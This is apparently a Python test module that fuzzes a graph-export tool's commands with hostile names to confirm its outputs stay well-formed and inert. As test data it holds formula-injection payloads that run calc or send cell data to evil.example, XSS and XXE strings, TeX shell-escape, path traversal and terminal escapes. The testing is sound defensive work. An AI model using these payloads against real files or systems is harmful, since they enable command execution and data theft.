"""Hostile names: of tasks, models, roles, groups, texts, files and runs, in every format that is written.

What is written must be well-formed, do nothing where it is opened, and say nothing to a terminal but text.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from graphs.export import EXPORTS
from tests.faults.sound import Sound
from tests.faults.trial import Trial
from tests.faults.written import unsound_in

KIND = "names"
NAMES = {
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with a sign": "+1+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a tab": "\t=1+1",
    "a formula after a return": "\r=1+1",
    "a link as a formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "a quote and a formula": '","=1+1","',
    "lines": "a\nb\r\nc\n\n=1+1",
    "an escape": "\x1b[2J\x1b]0;owned\x07",
    "a bell and backspaces": "a\x07\x08\x08b",
    "a zero": "a\0b",
    "controls of another set": "a\x85\x9b31mb",
    "right to left": "gpt\u202e2tpg\u202c",
    "no width": "a\u200b\u200d\ufeffb",
    "no character": "a\ufffe\uffffb",
    "half a character": "a\ud800b",
    "long": "n" * 5000,
    "long without a space, of wide characters": "\u5b57" * 2000,
    "of many marks": "e" + "\u0301" * 500,
    "another plane": "\U0001f600\U0010ffff",
    "a script": "</script><script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "an entity": "&xxe;&amp;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "the end of a comment": "--> <!-- ]]> */ %\n",
    "TeX": r"\input{/etc/passwd}\write18{touch hacked}$^_#&%~",
    "Markdown": "a|b[x](javascript:alert(1))`c`**d**",
    "markup of the terminal": "[bold red]a[/bold red][link=http://evil.example]b[/link]",
    "a format": "{0.__class__} %s %n {x!r:>99999999}",
    "a path": "../../../etc/passwd",
    "of Windows": "CON:NUL\\\\host\\share",
    "spaces": "   ",
    "empty": "",
}
# Where a name stands in graph.json.
_PLACES: dict[str, tuple[Any, ...]] = {
    "task": ("provenance", "task"),
    "model": ("provenance", "model"),
    "metric": ("provenance", "metric"),
    "method": ("provenance", "method"),
    "reason": ("reason",),
    "role": ("nodes", 1, "role"),
    "dtype": ("provenance", "dtype"),
}


def trials(sound: Sound) -> Iterator[Trial]:
    """All of them."""
    yield from _exports(sound)
    yield from _annotated(sound)
    yield from _texts(sound)
    yield from _files(sound)
    yield from _runs(sound)
    yield from _titles(sound)


def _exports(sound: Sound) -> Iterator[Trial]:
    """A graph that says something hostile of itself, in each format in turn: all formats of every place and name."""
    graph = json.loads((sound.runs / sound.run / "graph.json").read_text())
    formats = {name: export.extension for name, export in EXPORTS.items()}
    for number, (what, name) in enumerate(NAMES.items()):
        for at, (place, path) in enumerate(_PLACES.items()):
            hostile = json.dumps(_with(graph, path, name))
            chosen = [*formats.items()][(number + at) % len(_PLACES) :: len(_PLACES)]
            for format_, extension in chosen:
                given = ["export", "./g.json", "--to", format_, "--out", f"out.{extension}"]

                def prepare(folder: Path, hostile: str = hostile) -> None:
                    (folder / "g.json").write_text(hostile)

                yield _trial(f"{what} as the {place} of {format_}", given, prepare)


def _annotated(sound: Sound) -> Iterator[Trial]:
    """Groups and notes of nodes."""
    graph = json.loads((sound.runs / sound.run / "graph.json").read_text())
    node = next(entry["name"] for entry in graph["nodes"] if entry["name"].startswith("a"))
    formats = ("csv", "xlsx", "parquet", "html", "svg", "latex", "markdown", "graphml", "gexf", "cytoscape", "dot")
    for number, (what, name) in enumerate(NAMES.items()):
        said = {
            "format": "circuit-workbench-annotations",
            "version": 1,
            "groups": [{"name": name, "nodes": [node]}],
            "notes": {node: name},
        }
        for format_ in formats[number % 4 :: 4]:

            def prepare(folder: Path, said: dict[str, Any] = said) -> None:
                sound.copy_runs(folder)
                (folder / "a.json").write_text(json.dumps(said))

            out = f"out.{EXPORTS[format_].extension}"
            given = ["export", sound.run, "--to", format_, "--out", out, "--annotations", "a.json"]
            yield _trial(f"{what} as a group in {format_}", given, prepare)


def _texts(sound: Sound) -> Iterator[Trial]:
    """Names and groups of texts, which stand in tables and figures."""
    for what, name in NAMES.items():
        lines = [{"ids": [1, 2, 3, 4, 5, number], "name": f"{name}{number}", "group": name} for number in range(3)]

        def prepare(folder: Path, lines: list[dict[str, Any]] = lines) -> None:
            (folder / "x.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))

        given = ["influence", "x.jsonl", "--model", str(sound.model), "--heads", "a1.h0", "--random", "2"]
        yield _trial(f"{what} as the name of a text", given, prepare)


def _files(sound: Sound) -> Iterator[Trial]:
    """A prompt file and a model folder with such a name, whose run is evaluated: its name is that of a task."""
    for what, name in NAMES.items():
        file = os.fsdecode(name.encode("utf-8", "surrogateescape" if "\udc80" in name else "replace"))
        short = file.replace("/", "_").replace("\0", "_").encode("utf-8", "surrogateescape")[:200]
        file = f"{short.decode('utf-8', 'ignore')}.jsonl"

        def prepare(folder: Path, file: str = file) -> None:
            (folder / file).write_bytes(sound.prompts.read_bytes())

        yield _trial(f"{what} as the name of a prompt file", sound.discover(prompts=f"./{file}"), prepare)


def _runs(sound: Sound) -> Iterator[Trial]:
    """A run with such a name, and a folder of it that somebody has renamed so."""
    for what, name in NAMES.items():
        yield _trial(f"{what} as the name of a run", [*sound.discover(), "--name", name], lambda folder: None)
        kept = name.encode("utf-8", "replace").replace(b"/", b"_").replace(b"\0", b"_")[:200] or b"renamed"
        for command in (["status"], ["evaluate", f"runs/{os.fsdecode(kept)}", sound.other, "--out", "judged"]):

            def renamed(folder: Path, kept: bytes = kept) -> None:
                sound.copy_runs(folder)
                (folder / "runs" / sound.run).rename(folder / "runs" / os.fsdecode(kept))

            yield _trial(f"{what} as the folder of a run, {command[0]}", command, renamed)


def _titles(sound: Sound) -> Iterator[Trial]:
    """A title, which is any text."""
    for number, (what, name) in enumerate(NAMES.items()):
        if "\0" in name:
            continue  # no argument of a process holds it
        for format_ in ("svg", "pdf", "png", "eps", "tikz")[number % 5 :][:2]:
            given = [
                "export",
                sound.run,
                "--to",
                format_,
                "--out",
                f"out.{EXPORTS[format_].extension}",
                "--title",
                name,
            ]
            yield _trial(f"{what} as the title in {format_}", given, sound.copy_runs)


def _with(graph: Any, path: tuple[Any, ...], name: str) -> Any:
    changed = copy.deepcopy(graph)
    inner = changed
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = name
    return changed


def _trial(name: str, arguments: list[str], prepare: Callable[[Path], None]) -> Trial:
    return Trial(KIND, name, arguments, prepare, expects="either", check=unsound_in)
